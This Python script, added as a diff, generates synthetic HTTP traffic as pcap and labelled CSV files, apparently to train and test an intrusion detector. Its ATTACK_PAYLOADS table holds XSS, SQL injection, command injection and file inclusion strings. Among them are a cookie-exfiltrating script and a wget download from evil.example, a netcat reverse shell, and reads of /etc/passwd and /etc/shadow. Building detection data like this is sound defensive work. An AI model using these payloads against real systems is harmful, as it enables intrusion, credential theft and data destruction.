@@ -0,0 +1,266 @@
+import argparse
+import csv
+import os
+import random
+import struct
+import zlib
+from collections import namedtuple
+from datetime import datetime, timezone
+from urllib.parse import quote
+
+# --- Traffic Model ---
+# Payloads follow the attack families the rule pack and the model were built for.
+ATTACK_PAYLOADS = {
+    "XSS": [
+        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert('xss')>",
+        "javascript:alert(1)", "\"><script>document.location='http://evil.example/?c='+document.cookie</script>",
+        "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
+    ],
+    "SQL Injection": [
+        "1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "' OR 1=1 --", "1; DROP TABLE users",
+        "1' AND SLEEP(5)--", "admin'--", "1' UNION ALL SELECT NULL,@@version#", "1 AND 1=CONVERT(int,(SELECT @@version))",
+    ],
+    "Command Injection": [
+        "127.0.0.1; cat /etc/passwd", "127.0.0.1 && whoami", "| ls -la", "`id`", "$(uname -a)",
+        "127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444", "; wget http://evil.example/x.sh",
+    ],
+    "File Inclusion": [
+        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "php://filter/convert.base64-encode/resource=index.php",
+        "/etc/shadow", "http://evil.example/shell.txt?", "....//....//etc/passwd", "C:\\Windows\\win.ini",
+    ],
+}
+ATTACK_TARGETS = {
+    "XSS": ["/vulnerabilities/xss_r/", "/search", "/comment"],
+    "SQL Injection": ["/vulnerabilities/sqli/", "/product", "/login.php"],
+    "Command Injection": ["/vulnerabilities/exec/", "/ping", "/tools/lookup"],
+    "File Inclusion": ["/vulnerabilities/fi/", "/index.php", "/view"],
+}
+ATTACK_PARAMS = {"XSS": "name", "SQL Injection": "id", "Command Injection": "ip", "File Inclusion": "page"}
+
+BENIGN_PATHS = [
+    "/", "/index.html", "/about", "/products", "/products/list", "/cart", "/login.php", "/static/css/site.css",
+    "/static/js/app.js", "/images/banner.jpg", "/api/v1/items", "/api/v1/users/me", "/search", "/blog/2024/10/release-notes",
+]
+BENIGN_PARAMS = ["q", "page", "id", "sort", "lang", "ref", "category", "utm_source"]
+BENIGN_WORDS = ["shoes", "laptop", "red", "summer sale", "python", "news", "contact", "faq", "2024", "en-US"]
+HOSTS = ["localhost", "shop.example.com", "intranet.local", "api.example.com"]
+STATUS_CODES = [200] * 14 + [302, 304, 404, 500]
+
+Transaction = namedtuple("Transaction", ["timestamp", "client_ip", "client_port", "server_ip", "server_port", "method", "host", "target", "status", "response_size", "attack_type"])
+
+# --- Packet Constants ---
+PCAP_GLOBAL_HEADER = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
+ETHERNET_HEADER = b"\x02\x00\x00\x00\x00\x02" + b"\x02\x00\x00\x00\x00\x01" + b"\x08\x00"
+MSS = 1460
+TCP_FIN, TCP_SYN, TCP_PSH, TCP_ACK = 0x01, 0x02, 0x08, 0x10
+
+
+def generate_transactions(count: int, attack_ratio: float = 0.1, seed: int = 42, start_time: float = 1_727_517_600.0):
+    """
+    Yields `count` synthetic HTTP transactions. Clients open keep-alive
+    connections carrying one to five requests each; `attack_ratio` of the
+    requests carry a payload from one of the attack families, sometimes
+    percent-encoded so the ML phase has work too.
+    """
+    rng = random.Random(seed)
+    clock = start_time
+    produced = 0
+    while produced < count:
+        client_ip = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+        client_port = rng.randrange(1024, 65536)
+        server_ip = f"172.17.0.{rng.randrange(2, 10)}"
+        host = rng.choice(HOSTS)
+        for _ in range(min(rng.randint(1, 5), count - produced)):
+            clock += rng.expovariate(200.0)
+            if rng.random() < attack_ratio:
+                attack_type = rng.choice(list(ATTACK_PAYLOADS))
+                payload = rng.choice(ATTACK_PAYLOADS[attack_type])
+                # Quoting the payload once or twice keeps it valid in a request line.
+                payload = quote(payload, safe="") if rng.random() < 0.7 else quote(quote(payload, safe=""), safe="")
+                target = f"{rng.choice(ATTACK_TARGETS[attack_type])}?{ATTACK_PARAMS[attack_type]}={payload}&Submit=Submit"
+            else:
+                attack_type = None
+                target = rng.choice(BENIGN_PATHS)
+                if rng.random() < 0.6:
+                    target += f"?{rng.choice(BENIGN_PARAMS)}={quote(rng.choice(BENIGN_WORDS))}"
+            method = "POST" if attack_type is None and rng.random() < 0.1 else "GET"
+            status = rng.choice(STATUS_CODES)
+            yield Transaction(clock, client_ip, client_port, server_ip, 80, method, host, target, status, rng.randint(120, 6000), attack_type)
+            produced += 1
+
+
+# --- PCAP Writer ---
+def _ip_checksum(header: bytes) -> int:
+    total = sum(struct.unpack("!10H", header))
+    total = (total & 0xFFFF) + (total >> 16)
+    total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def _frame(src_ip, dst_ip, src_port, dst_port, seq, ack, flags, payload=b"") -> bytes:
+    tcp = struct.pack("!HHIIBBHHH", src_port, dst_port, seq, ack, 5 << 4, flags, 64240, 0, 0)
+    total_length = 20 + len(tcp) + len(payload)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total_length, 0, 0x4000, 64, 6, 0, bytes(map(int, src_ip.split("."))), bytes(map(int, dst_ip.split("."))))
+    ip = ip[:10] + struct.pack("!H", _ip_checksum(ip)) + ip[12:]
+    return ETHERNET_HEADER + ip + tcp + payload
+
+
+class PcapWriter:
+    """Writes Ethernet/IPv4/TCP frames to a classic little-endian pcap file (microsecond timestamps)."""
+
+    def __init__(self, path: str):
+        self._file = open(path, "wb")
+        self._file.write(PCAP_GLOBAL_HEADER)
+
+    def write(self, timestamp: float, frame: bytes):
+        seconds = int(timestamp)
+        micros = int(round((timestamp - seconds) * 1_000_000))
+        if micros == 1_000_000:
+            seconds, micros = seconds + 1, 0
+        self._file.write(struct.pack("<IIII", seconds, micros, len(frame), len(frame)))
+        self._file.write(frame)
+
+    def tell(self) -> int:
+        return self._file.tell()
+
+    def close(self):
+        self._file.close()
+
+
+def _http_request(txn: Transaction) -> bytes:
+    body = b""
+    lines = [f"{txn.method} {txn.target} HTTP/1.1", f"Host: {txn.host}", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "Accept: */*"]
+    if txn.method == "POST":
+        body = b"username=guest&password=guest&Login=Login"
+        lines += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(body)}"]
+    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body
+
+
+def _http_response(txn: Transaction) -> bytes:
+    if txn.status == 304:
+        return b"HTTP/1.1 304 Not Modified\r\n\r\n"
+    body = b"x" * txn.response_size
+    head = f"HTTP/1.1 {txn.status} {'OK' if txn.status == 200 else 'Status'}\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n\r\n"
+    return head.encode() + body
+
+
+def write_pcap(path: str, transactions) -> dict:
+    """
+    Writes every transaction as real TCP traffic: a handshake per connection,
+    requests and responses segmented at the MSS, and a FIN exchange at the end
+    of each connection. Returns counts of what was written.
+    """
+    writer = PcapWriter(path)
+    summary = {'transactions': 0, 'attacks': 0, 'packets': 0}
+    connection, seqs, t = None, None, 0.0
+
+    def close_connection(at):
+        if connection is None:
+            return
+        client, server = connection
+        writer.write(at, _frame(*client, seqs[0], seqs[1], TCP_FIN | TCP_ACK))
+        writer.write(at + 0.0001, _frame(*server, seqs[1], (seqs[0] + 1) & 0xFFFFFFFF, TCP_FIN | TCP_ACK))
+        summary['packets'] += 2
+
+    for txn in transactions:
+        key = ((txn.client_ip, txn.server_ip, txn.client_port, txn.server_port), (txn.server_ip, txn.client_ip, txn.server_port, txn.client_port))
+        if connection != key:
+            close_connection(t)
+            connection = key
+            # Derived from the addresses so the same seed always gives the same file.
+            client_isn, server_isn = zlib.crc32(repr(key).encode()), zlib.crc32(repr(key[::-1]).encode())
+            t = txn.timestamp - 0.0005
+            writer.write(t, _frame(txn.client_ip, txn.server_ip, txn.client_port, txn.server_port, client_isn, 0, TCP_SYN))
+            seqs = [(client_isn + 1) & 0xFFFFFFFF, (server_isn + 1) & 0xFFFFFFFF]
+            writer.write(t + 0.0001, _frame(txn.server_ip, txn.client_ip, txn.server_port, txn.client_port, server_isn, seqs[0], TCP_SYN | TCP_ACK))
+            writer.write(t + 0.0002, _frame(txn.client_ip, txn.server_ip, txn.client_port, txn.server_port, seqs[0], seqs[1], TCP_ACK))
+            summary['packets'] += 3
+
+        t = txn.timestamp
+        for data, forward in ((_http_request(txn), True), (_http_response(txn), False)):
+            for offset in range(0, len(data), MSS):
+                segment = data[offset:offset + MSS]
+                if forward:
+                    frame = _frame(txn.client_ip, txn.server_ip, txn.client_port, txn.server_port, seqs[0], seqs[1], TCP_PSH | TCP_ACK, segment)
+                    seqs[0] = (seqs[0] + len(segment)) & 0xFFFFFFFF
+                else:
+                    frame = _frame(txn.server_ip, txn.client_ip, txn.server_port, txn.client_port, seqs[1], seqs[0], TCP_PSH | TCP_ACK, segment)
+                    seqs[1] = (seqs[1] + len(segment)) & 0xFFFFFFFF
+                writer.write(t, frame)
+                summary['packets'] += 1
+                t += 0.00005
+            t += 0.002
+        summary['transactions'] += 1
+        summary['attacks'] += txn.attack_type is not None
+
+    close_connection(t)
+    summary['bytes'] = writer.tell()
+    writer.close()
+    return summary
+
+
+# --- IPDR CSV Writer ---
+IPDR_COLUMNS = ['timestamp', 'src_ip', 'src_port', 'dst_ip', 'dst_port', 'highest_protocol', 'length', 'url', 'status_code', 'attack_type']
+
+
+def write_ipdr_csv(path: str, transactions, labelled: bool = False) -> dict:
+    """
+    Writes the transactions in the same request-row / response-row layout as
+    the bundled IPDR CSVs. With `labelled` the attack family is filled into
+    the request rows' attack_type, e.g. as training data.
+    """
+    summary = {'transactions': 0, 'attacks': 0}
+    with open(path, "w", newline="") as f:
+        writer = csv.writer(f)
+        writer.writerow(IPDR_COLUMNS)
+        for txn in transactions:
+            request = _http_request(txn)
+            response = _http_response(txn)
+            protocol = "URLENCODED-FORM" if txn.method == "POST" else "HTTP"
+            writer.writerow([_iso(txn.timestamp), txn.client_ip, txn.client_port, txn.server_ip, txn.server_port, protocol,
+                             len(request) + 54, f"http://{txn.host}{txn.target}", "", (txn.attack_type or "") if labelled else ""])
+            writer.writerow([_iso(txn.timestamp + 0.002), txn.server_ip, txn.server_port, txn.client_ip, txn.client_port, "DATA-TEXT-LINES",
+                             min(len(response), MSS) + 54, "", txn.status, ""])
+            summary['transactions'] += 1
+            summary['attacks'] += txn.attack_type is not None
+        summary['bytes'] = f.tell()
+    return summary
+
+
+def _iso(timestamp: float) -> str:
+    return datetime.fromtimestamp(timestamp, tz=timezone.utc).replace(tzinfo=None).isoformat(timespec="microseconds")
+
+
+def transactions_for_size(target_bytes: int, file_format: str) -> int:
+    """Rough transaction count needed for a file of `target_bytes`."""
+    per_transaction = 3_500 if file_format == "pcap" else 215
+    return max(1, target_bytes // per_transaction)
+
+
+def parse_size(text: str) -> int:
+    units = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30}
+    text = text.strip().upper().rstrip("B")
+    if text and text[-1] in units:
+        return int(float(text[:-1]) * units[text[-1]])
+    return int(text)
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="Generate synthetic HTTP traffic as pcap and/or IPDR CSV.")
+    parser.add_argument("output_dir")
+    parser.add_argument("--size", default="50M", help="approximate size per file, e.g. 200K, 50M, 1G")
+    parser.add_argument("--transactions", type=int, help="exact number of transactions (overrides --size)")
+    parser.add_argument("--attack-ratio", type=float, default=0.1)
+    parser.add_argument("--seed", type=int, default=42)
+    parser.add_argument("--format", choices=["pcap", "csv", "both"], default="both")
+    parser.add_argument("--labelled", action="store_true", help="fill attack_type in CSV request rows (training data)")
+    args = parser.parse_args()
+
+    os.makedirs(args.output_dir, exist_ok=True)
+    formats = ["pcap", "csv"] if args.format == "both" else [args.format]
+    for file_format in formats:
+        count = args.transactions or transactions_for_size(parse_size(args.size), file_format)
+        path = os.path.join(args.output_dir, f"synthetic_{count}.{file_format}")
+        transactions = generate_transactions(count, args.attack_ratio, args.seed)
+        summary = write_pcap(path, transactions) if file_format == "pcap" else write_ipdr_csv(path, transactions, args.labelled)
+        print(f"[💾] Wrote {summary['transactions']} transactions ({summary['attacks']} attacks, {summary['bytes']} bytes) to: {path}")